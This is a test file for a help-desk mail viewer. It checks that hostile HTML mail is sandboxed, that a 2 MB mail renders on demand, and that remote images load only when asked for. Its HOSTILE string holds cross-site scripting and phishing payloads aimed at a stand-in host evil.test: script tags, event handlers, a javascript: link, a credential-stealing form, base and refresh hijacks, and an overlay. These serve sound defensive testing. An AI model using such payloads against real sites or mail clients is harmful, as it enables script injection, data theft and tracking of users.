import { deskOfSuite } from '../../support/desk.ts';
import { mailIn } from '../../support/outgoing.ts';
import { until } from '../../support/until.ts';

const HOSTILE =
  '<script>alert("script")</script><img src=x onerror="alert(2)"><img src="http://evil.test/pixel.png">' +
  '<style>@import "http://evil.test/a.css"; body { background: url(http://evil.test/b.png) } ' +
  '#over { position: fixed; inset: -2000px; z-index: 9999; background: red }</style><div id="over">over</div>' +
  '<form action="http://evil.test/steal"><input name="q"><button>Go</button></form>' +
  '<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/refresh">' +
  '<iframe src="http://evil.test/i"></iframe><object data="http://evil.test/o"></object>' +
  '<svg onload="alert(3)"><image href="http://evil.test/svg.png"/></svg>' +
  '<a href="javascript:alert(4)">js</a><p>The end of the hostile mail</p>';

describe('hostile mail', () => {
  const at = deskOfSuite();

  test('runs nothing, asks nothing of the world, stays in its frame; the page answers keys', async () => {
    await mailIn(at.stack, { subject: 'A kind of trap', html: HOSTILE });
    const page = await at.openAs('Dana');
    const outside: string[] = [];
    const dialogs: string[] = [];
    page.on('request', (request) => {
      if (!/^(data|blob|about):/.test(request.url()) && !request.url().startsWith(at.stack.webUrl))
        outside.push(request.url());
    });
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.getByRole('option', { name: /A kind of trap/ }).click();
    const frame = page.getByRole('article').first().frameLocator('iframe');
    await frame.getByText('The end of the hostile mail').waitFor();
    const url = page.url();
    // Nothing of the mail lies over the page: its own button takes the click.
    await page.getByRole('button', { name: 'Reply', exact: true }).first().click();
    await page.getByRole('textbox', { name: 'Message', exact: true }).press('Escape');
    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
    expect(page.url()).toBe(url);
    expect({ outside, dialogs }).toEqual({ outside: [], dialogs: [] });
    expect(at.errors).toEqual([]);
  });

  test('a mail of 2 MB is shown when it is asked for, whole; the page answers keys all the while', async () => {
    const line = '<p>One of very many lines, each like the one before and the one after it</p>';
    const html = `${line.repeat(2_000_000 / line.length)}<p>The end of the large mail</p>`;
    await mailIn(at.stack, { subject: 'A kind of novel', html });
    const page = await at.openAs('Dana');
    await page.getByRole('option', { name: /A kind of novel/ }).click();
    const article = page.getByRole('article').first();
    await article.getByText('This mail is large', { exact: false }).waitFor();
    expect(await article.locator('iframe').count()).toBe(0);
    await article.getByRole('button', { name: 'Show it' }).click();
    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
    await page.keyboard.press('Escape');
    await article.frameLocator('iframe').getByText('The end of the large mail').waitFor();
    expect(at.errors).toEqual([]);
  });

  test('remote pictures are asked for only when the agent wants them', async () => {
    await mailIn(at.stack, {
      subject: 'With a tracker',
      html: '<p>Look at this</p><img src="https://evil.test/pixel.png" alt="pixel">',
    });
    const page = await at.openAs('Dana');
    const outside: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.test')) outside.push(request.url());
    });
    await page.getByRole('option', { name: /With a tracker/ }).click();
    const article = page.getByRole('article').first();
    await article.frameLocator('iframe').getByText('Look at this').waitFor();
    expect(outside).toEqual([]);
    await article.getByRole('button', { name: 'Load', exact: true }).first().click();
    await until('the picture to be asked for', () => outside.length > 0);
  });
});
